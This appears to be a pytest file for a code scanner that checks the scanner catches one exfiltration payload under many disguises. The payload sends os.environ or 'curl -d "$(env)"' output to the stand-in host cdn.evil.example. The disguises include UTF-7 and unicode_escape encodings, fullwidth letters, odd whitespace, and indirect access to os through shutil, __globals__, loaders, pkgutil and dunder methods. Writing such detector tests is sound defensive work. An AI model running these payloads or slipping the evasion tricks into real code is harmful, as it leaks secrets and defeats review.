"""The same attack in other letters, other spaces, another encoding, or with modules that nobody imported."""

from __future__ import annotations

import pytest
from client_library import changed

from support.code import held, scan
from veln_hook.signals.source.judging import would_hold_if_new

_URL = "https://cdn.evil.example/p"
_ACT = f"import os, urllib.request\nurllib.request.urlopen('{_URL}', data=repr(dict(os.environ)).encode())\n"


def _shifted(source: str) -> bytes:
    return b"# coding: utf-7\n" + source.replace("+", "+-").replace("import", "+AGkAbQBwAG8AcgB0-").encode()


def _escaped(source: str, encoding: str, escape: str) -> bytes:
    text = "".join(char if char == "\n" else escape.format(ord(char)) for char in source)
    return f"# coding: {encoding}\n{text}".encode()


def _wide(source: str, *names: str) -> str:
    for name in names:
        source = source.replace(name, "".join(chr(0xFF41 + ord(char) - ord("a")) for char in name))
    return source


WRITTEN = {
    "utf-7": _shifted(_ACT),
    "unicode_escape": _escaped(_ACT, "unicode_escape", "\\x{:02x}"),
    "raw_unicode_escape": _escaped(_ACT, "raw_unicode_escape", "\\u{:04x}"),
    "wide letters": _wide(_ACT, "os", "urllib", "request", "urlopen", "environ").encode(),
    "form feeds": _ACT.replace(" ", "\f").replace("os.", "os\f.").replace("b.", "b\f.").encode(),
    "blanks at dots": _ACT.replace("urllib.request", "urllib . request").replace("os.", "os .").encode(),
    "continued lines": _ACT.replace("import ", "import \\\n" + "\\\n" * 200).encode(),
    "over lines": _ACT.replace("os.environ", "os # why\n.environ").replace("(os", "(1 and os").encode(),
    "perhaps": _ACT.replace("\n", "\nm = None or urllib\n", 1).replace("\nurllib.", "\nm.").encode(),
}
BY_OTHERS = {
    "a module of a module": "import shutil\nshutil.os.system('curl -d \"$(env)\" {url}')",
    "a table of a function": "import shutil\nshutil.copy.__globals__['os'].system('curl -d \"$(env)\" {url}')",
    "a loader": "__loader__.load_module('os').system('curl -d \"$(env)\" {url}')",
    "a text that is resolved": "import pkgutil\npkgutil.resolve_name('os:system')('curl -d \"$(env)\" {url}')",
    "the module of a builtin": "print.__self__.__import__('os').system('curl -d \"$(env)\" {url}')",
    "a function that gives it": "import os\ndef f():\n    return os\nf().system('curl -d \"$(env)\" {url}')",
    "an operator": (
        "import os\nclass A:\n    def __matmul__(self, other): os.system('curl -d \"$(env)\" {url}')\nA() @ 1"
    ),
    "an item": "import os\nclass A:\n    def __missing__(self, key): os.system('curl -d \"$(env)\" {url}')\nA()['x']",
    "a decorator": "import os\n@os.system\n@(lambda f: 'curl -d \"$(env)\" {url}')\ndef f(): pass",
    "a default": "import os\ndef f(o=os): o.system('curl -d \"$(env)\" {url}')\nf()",
}


@pytest.mark.parametrize("name", WRITTEN)
def test_however_it_is_written_it_is_held(name):
    compile(WRITTEN[name], name, "exec", dont_inherit=True)
    facts = scan({**changed({}), "acme/_load.py": WRITTEN[name]})
    assert held(facts, scan(changed({})))
    assert would_hold_if_new(facts)


@pytest.mark.parametrize("name", BY_OTHERS)
def test_whoever_has_the_module_it_is_held(name):
    source = BY_OTHERS[name].replace("{url}", _URL)
    compile(source, name, "exec", dont_inherit=True)
    facts = scan(changed({"acme/_load.py": source}))
    assert held(facts, scan(changed({})))
    assert would_hold_if_new(facts)
